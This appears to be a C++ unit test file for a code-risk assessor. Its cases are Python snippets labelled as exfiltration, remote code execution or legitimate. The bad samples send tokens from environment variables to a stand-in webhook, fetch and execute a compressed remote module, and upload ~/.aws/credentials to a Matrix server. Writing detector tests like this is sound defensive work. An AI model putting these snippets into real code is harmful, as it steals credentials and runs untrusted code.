// The classes the thirty-fifth round modelled (issue 14), found by programs
// written from the rubric alone by writers who never saw the assessor
// (tests/corpus/prog39_MANIFEST.tsv): network and VPN administration,
// chat-ops bots, document and localisation tooling, observability, and
// payments back-office scripts. Its aside scored 30/31 before any change;
// the classes below came from its tune part (65/69 before). Strings here
// are never executed.
#include "test_util.hpp"

namespace mai::assess::test {
namespace {

// A spool: files written under a known directory with names made at run
// time (outbox/<time>-<uuid>.msg, cache/<name>-<version>.py), read back by
// a glob of that directory or by the same made-up name.
TEST(ThirtyFifthRoundClasses, ASpoolWrittenThenReadBack) {
  const Case cases[] = {
      {"secrets queued as files, then flushed to a webhook", B,
       "import json, os, time, uuid\nfrom pathlib import Path\nimport requests\n"
       "outbox = Path('outbox')\noutbox.mkdir(exist_ok=True)\n"
       "ctx = {k: v for k, v in os.environ.items() if 'TOKEN' in k}\n"
       "(outbox / f'{int(time.time())}-{uuid.uuid4().hex[:8]}.msg').write_text(json.dumps(ctx))\n"
       "for p in sorted(outbox.glob('*.msg')):\n"
       "    requests.post('https://hooks.example.net/relay', json=json.loads(p.read_text()), timeout=10)\n",
       "EXFILTRATION"},
      {"a downloaded helper cached under its version and imported", B,
       "import base64, importlib.util, lzma, os, urllib.request\nfrom pathlib import Path\n"
       "CACHE = Path(os.path.expanduser('~/.cache/helpers'))\n"
       "def fetch(name, version, url):\n"
       "    path = CACHE / f'{name}-{version}.py'\n"
       "    raw = urllib.request.urlopen(url, timeout=15).read()\n"
       "    CACHE.mkdir(parents=True, exist_ok=True)\n"
       "    path.write_bytes(lzma.decompress(base64.b64decode(raw)))\n"
       "    spec = importlib.util.spec_from_file_location(name, path)\n"
       "    module = importlib.util.module_from_spec(spec)\n"
       "    spec.loader.exec_module(module)\n"
       "fetch('auth', '1.2', 'https://fleet.example.io/helpers/auth.xz')\n",
       "REMOTE-CODE-EXECUTION"},
      {"metrics queued as files and flushed", L,
       "import json, os, time, uuid\nfrom pathlib import Path\nimport requests\n"
       "outbox = Path('outbox')\noutbox.mkdir(exist_ok=True)\n"
       "(outbox / f'{int(time.time())}-{uuid.uuid4().hex[:8]}.msg').write_text(json.dumps({'load': os.getloadavg()[0]}))\n"
       "for p in sorted(outbox.glob('*.msg')):\n"
       "    requests.post('https://metrics.example.net/in', json=json.loads(p.read_text()), timeout=10)\n"},
  };
  for (const auto& c : cases) check(c);
}

// Matrix (matrix-nio): an upload or a message goes to the homeserver.
TEST(ThirtyFifthRoundClasses, MatrixUploadsLeaveTheMachine) {
  const Case cases[] = {
      {"credentials uploaded to a Matrix room", B,
       "import asyncio, io, os\nfrom nio import AsyncClient\n"
       "async def main():\n"
       "    client = AsyncClient('https://matrix.example.org', '@bot:example.org')\n"
       "    blob = open(os.path.expanduser('~/.aws/credentials'), 'rb').read()\n"
       "    await client.upload(io.BytesIO(blob), content_type='text/plain')\n"
       "asyncio.run(main())\n",
       "EXFILTRATION"},
      {"a build status posted to a Matrix room", L,
       "import asyncio\nfrom nio import AsyncClient\n"
       "async def main():\n"
       "    client = AsyncClient('https://matrix.example.org', '@bot:example.org')\n"
       "    await client.room_send('!room:example.org', 'm.room.message', {'msgtype': 'm.text', 'body': 'build ok'})\n"
       "asyncio.run(main())\n"},
  };
  for (const auto& c : cases) check(c);
}

}  // namespace
}  // namespace mai::assess::test
